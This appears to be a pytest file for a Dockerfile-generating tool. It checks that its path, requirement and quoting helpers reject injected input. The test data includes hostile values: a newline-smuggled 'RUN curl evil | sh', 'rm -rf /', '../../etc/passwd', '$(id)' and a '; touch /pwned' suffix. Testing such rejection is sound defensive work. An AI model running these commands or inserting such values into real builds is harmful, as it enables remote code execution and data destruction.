import pytest

from dockerfix.model import Requirement
from dockerfix.errors import InputError
from dockerfix.plan.safe import label_value, safe_path, safe_requirement, shell_quote


@pytest.mark.parametrize("hostile", ["a\nRUN curl evil | sh", "../../etc/passwd", "x;rm -rf /", "$(id)", "a b"])
def test_hostile_paths_are_refused(hostile):
    with pytest.raises(InputError):
        safe_path(hostile, "pyproject.toml", 3)


def test_plain_paths_pass():
    assert safe_path("requirements/base.txt", "x", None) == "requirements/base.txt"
    assert safe_path("/srv/app", "x", None, absolute=True) == "/srv/app"


def test_requirements_are_normalised_and_quoted():
    assert safe_requirement(Requirement("click", ">=8")) == "'click>=8'"
    with pytest.raises(InputError):
        safe_requirement(Requirement("click", ">=8; touch /pwned"))
    with pytest.raises(InputError):
        safe_requirement(Requirement("click\nRUN id", ""))


def test_quoting():
    assert shell_quote("unearth<0.18") == "'unearth<0.18'"
    with pytest.raises(ValueError):
        shell_quote("a\nb")
    assert label_value('say "$HOME"') == '"say \\"\\$HOME\\""'
